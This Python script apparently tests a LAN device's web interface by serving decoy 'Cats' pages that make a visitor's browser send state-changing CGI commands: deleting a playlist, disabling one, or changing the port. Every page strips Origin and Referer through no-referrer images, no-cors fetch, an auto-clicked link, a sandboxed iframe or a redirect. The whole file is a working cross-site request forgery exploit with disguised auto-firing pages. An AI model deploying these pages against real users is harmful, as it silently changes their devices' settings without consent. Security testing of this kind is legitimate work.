#!/usr/bin/env python3
"""Another site on the LAN: pages that make a visitor's browser send changing
commands to the device without Origin or Referer, as a page of any site the
owner visits could.

    cross_site.py ADDRESS PORT DEVICE_CGI_URL

Serves, at http://ADDRESS:PORT/:
  img.html       <img referrerpolicy="no-referrer"> deleting a playlist
  fetch.html     fetch(..., {mode: "no-cors", referrerPolicy: "no-referrer"})
                 moving the port
  link.html      a click on <a rel="noreferrer"> disabling a playlist
  iframe.html    a sandboxed iframe with referrerpolicy="no-referrer"
                 deleting a playlist
  redirect.html  an image through a redirect whose response carries
                 "Referrer-Policy: no-referrer", moving the port
Each request names its path in a field "via" (which the device ignores), so
that the web server's access log shows that it arrived. Runs until killed.
"""
import html
import http.server
import sys
import urllib.parse

ADDRESS, PORT, CGI = sys.argv[1], int(sys.argv[2]), sys.argv[3]


def command(via, **fields):
    return CGI + "?" + urllib.parse.urlencode({**fields, "via": via})


DELETE = dict(cmd="GUI_ice_playlist_del", f_name="Demo")
DISABLE = dict(cmd="GUI_ice_playlist_disable", f_name="Demo")
MOVE = dict(cmd="GUI_ice_set", f_port="1")


def page(body):
    return f"<!DOCTYPE html><html><head><title>Cats</title></head><body><p>Cats.</p>{body}</body></html>"


def pages():
    img = html.escape(command("img", **DELETE))
    link = html.escape(command("link", **DISABLE))
    frame = html.escape(command("iframe", **DELETE))
    return {
        "/img.html": page(f'<img referrerpolicy="no-referrer" src="{img}" alt="">'),
        "/fetch.html": page("<script>fetch(%s, {mode: 'no-cors', referrerPolicy: 'no-referrer'}).catch(() => {});</script>"
                            % repr(command("fetch", **MOVE))),
        "/link.html": page(f'<a id="go" rel="noreferrer" href="{link}">more cats</a>'
                           "<script>document.getElementById('go').click();</script>"),
        "/iframe.html": page(f'<iframe sandbox referrerpolicy="no-referrer" src="{frame}"></iframe>'),
        "/redirect.html": page('<img src="/bounce" alt="">'),
    }


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/bounce":
            self.send_response(302)
            self.send_header("Location", command("redirect", **MOVE))
            self.send_header("Referrer-Policy", "no-referrer")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = pages().get(self.path)
        if body is None:
            self.send_error(404)
            return
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer((ADDRESS, PORT), Handler).serve_forever()
